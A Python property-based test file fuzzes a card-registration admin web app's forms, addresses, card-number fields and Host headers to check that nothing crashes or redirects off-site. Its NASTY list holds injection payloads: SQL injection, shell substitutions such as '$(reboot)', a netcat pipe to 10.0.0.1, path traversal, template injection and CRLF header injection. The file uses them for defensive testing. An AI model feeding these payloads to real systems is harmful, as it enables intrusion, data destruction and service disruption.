"""Anything, posted by anybody: nothing of it makes a page fail (CWE-20, CWE-78, CWE-89)."""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Final

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import admin
from register.models import Card, Dossier
from tests.admin.matrix import EVERYBODY, FILLED, PEOPLE, Crowd, routes
from tests.admin.office import Office
from tests.examples import examples
from tests.register import papers
from tests.register.test_requests import submitted

TEMPLATES: Final = Path(admin.__file__).parent / "templates"
NAMES: Final = sorted(
    {
        name
        for path in TEMPLATES.rglob("*.html")
        for name in re.findall(r'name="([a-z_.]+)"', path.read_text(encoding="utf-8"))
    }
    | {"number", "technology", "version", "event", "jenis", "note", "perangkat.0.serial"}
)
NASTY: Final = (
    "", " ", "0", "-1", "999999999999999999999999", "1e309", "NaN", "null", "true", "[]", "{}",
    "' OR 1=1 --", "'; DROP TABLE card;--", "$(reboot)", "`id`", "| nc 10.0.0.1 99", "../../etc",
    "%00", "\x00", "\x1b[31m", "\u202e", "\ud7ff", "\U0001f512", "=1+1", "{{7*7}}", "${7*7}",
    "A" * 5000, "2026-02-30", "0000-00-00", "9999-12-31", "2026-11-24T25:61", "25.99-00.00",
    "04A2B91C6F7180", "iso14443a:04A2", "\r\nSet-Cookie: a=b", "http://evil.example",
    "//evil.example", "javascript:alert(1)",
)  # fmt: skip
VALUES: Final = st.one_of(st.sampled_from(NASTY), st.text(max_size=60))
SUPPRESSED: Final = [HealthCheck.too_slow, HealthCheck.function_scoped_fixture]


class Target:
    """An office with something in it, and its addresses."""

    def __init__(self, folder: Path) -> None:
        self.office = Office(folder)
        self.crowd = Crowd(self.office)
        self.number = submitted(self.office.bureau)
        papers.submitted(self.office.bureau)
        self.posts = [rule.rule for rule, method in routes(self.office) if method == "POST"]
        self.readers = {who: self.crowd.browser(who) for who in PEOPLE}
        self.gets = [rule.rule for rule, method in routes(self.office) if method == "GET"]


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    made = Target(tmp_path_factory.mktemp("hostile"))
    yield made
    made.office.bureau.store.close()


FORM: Final = st.dictionaries(st.sampled_from(NAMES), VALUES, max_size=12)
NUMBERS: Final = st.sampled_from((0, 1, 2, 3, 999_999, 2**63 - 1, 2**63, 2**70))
WORDS: Final = st.sampled_from(("x", "approve", "withdraw", "0000AAAA0000", "..", "%2e%2e", "'"))


def address(rule: str, number: int, word: str) -> str:
    return FILLED.sub(lambda part: str(number) if part[1] == "int" else word, rule)


@settings(max_examples=examples(50), deadline=None, suppress_health_check=SUPPRESSED)
@given(st.data(), st.sampled_from(EVERYBODY), FORM, NUMBERS, WORDS)
def test_no_form_makes_a_page_fail(
    target: Target, data: st.DataObject, who: str, form: dict[str, str], number: int, word: str
) -> None:
    rule = data.draw(st.sampled_from(target.posts))
    client = target.crowd.browser(who)
    answer = client.post(address(rule, number, word), data=form)
    assert answer.status_code < 500, (rule, form)
    assert b"Traceback" not in answer.data  # some answer with a file


@settings(max_examples=examples(50), deadline=None, suppress_health_check=SUPPRESSED)
@given(st.data(), st.sampled_from(sorted(PEOPLE)), FORM, NUMBERS, WORDS)
def test_no_address_makes_a_page_fail(
    target: Target, data: st.DataObject, who: str, query: dict[str, str], number: int, word: str
) -> None:
    rule = data.draw(st.sampled_from(target.gets))
    client = target.readers[who]
    answer = client.get(address(rule, number, word), query_string=query, buffered=False)
    assert answer.status_code < 500, (rule, query)
    assert not answer.headers.get("Location", "/").startswith(("//", "http:", "javascript:"))
    answer.close()


@settings(max_examples=examples(20), deadline=None, suppress_health_check=SUPPRESSED)
@given(
    st.one_of(VALUES, st.binary(max_size=80).map(lambda raw: raw.decode("latin-1"))),
    st.sampled_from(("iso14443a", "em4100", "", "x", "'")),
)
def test_no_card_that_is_held_to_a_desk_reader_writes_what_it_likes(
    target: Target, number: str, technology: str
) -> None:
    """ZKTeco, CVE-2023-3938 and -3941: the credential itself is the attack."""
    client = target.crowd.browser("operator")
    form = {"number": number, "technology": technology, "printed": number}
    answer = client.post(f"/kartu/terbitkan/{target.number}", data=form)
    assert answer.status_code < 500
    with target.office.bureau.store.reading() as session:
        assert session.query(Card).count() == 0
        assert session.get_one(Dossier, target.number).state == "di-atasan"


@pytest.mark.parametrize("host", ["x" * 5000, "a b", "[::", "localhost:x", "a/b"])
def test_a_host_that_is_none_is_refused_and_nothing_falls(tmp_path: Path, host: str) -> None:
    office = Office(tmp_path)
    answer = office.app.test_client().get("/masuk", headers={"Host": host})
    assert answer.status_code < 500
    office.app.config["TRUSTED_HOSTS"] = ["localhost"]
    assert office.app.test_client().get("/masuk", headers={"Host": host}).status_code == 400
    office.bureau.store.close()
